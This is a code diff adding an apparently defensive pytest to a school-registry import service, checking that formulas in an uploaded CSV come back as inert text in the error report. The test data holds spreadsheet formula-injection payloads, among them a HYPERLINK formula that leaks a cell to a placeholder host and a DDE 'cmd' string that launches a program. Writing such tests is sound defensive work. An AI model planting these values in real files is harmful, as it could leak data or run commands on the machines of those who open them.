@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -9,6 +10,7 @@ import signal
 import sqlite3
 import subprocess
 import time
+import zipfile
 from pathlib import Path
 
 from fastapi.testclient import TestClient
@@ -18,6 +20,7 @@ from tests.e2e.conftest import XUEJI, Headers, cli_env, run_cli
 from tests.import_files_helper import row, write_csv
 from tests.registry_world import HAIKOU, number
 from xueji.demo.load import HAIKOU_SCHOOL_CODE, demo_number
+from xueji.registry.imports.files import TEMPLATE_HEADERS
 
 
 def demo_registry(tmp_path: Path) -> Path:
@@ -212,3 +215,40 @@ def test_api_upload_dry_run_commit_and_report(
     as_uploaded = {"file": ("模板.xlsx", template.content)}
     untouched = client.post(url, files=as_uploaded, headers=admin).json()
     assert (untouched["new"], untouched["changed"], untouched["rejected"]) == (0, 0, 0)
+
+
+def test_formulas_in_an_upload_come_back_as_text_in_the_error_report(
+    client: TestClient, as_user: Headers, tmp_path: Path
+) -> None:
+    """A rejected row's cells are written back as text: no cell of the report is a
+    formula a spreadsheet would evaluate when the clerk opens it."""
+    admin = as_user("haikou-admin")
+    hostile = [
+        '=HYPERLINK("http://x/?d="&A3,"y")',
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1+1",
+    ]
+    rows = [
+        row(number(sequence=f"{11 + 2 * i:03d}"), text, phone="1") for i, text in enumerate(hostile)
+    ]
+    path = tmp_path / "名单.csv"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows([TEMPLATE_HEADERS, *rows])
+    url = f"/api/v1/schools/{HAIKOU}/imports"
+    files = {"file": ("名单.csv", path.read_bytes(), "text/csv")}
+    body = client.post(url, files=files, data={"dry_run": "true"}, headers=admin).json()
+    assert body["rejected"] == len(hostile)
+    report = client.get(body["report_url"], headers=admin).content
+    with zipfile.ZipFile(io.BytesIO(report)) as workbook:
+        sheet_xml = workbook.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+    names = [
+        cells[1]
+        for cells in CalamineWorkbook.from_filelike(io.BytesIO(report))
+        .get_sheet_by_index(0)
+        .to_python()[1:]
+    ]
+    assert names == hostile
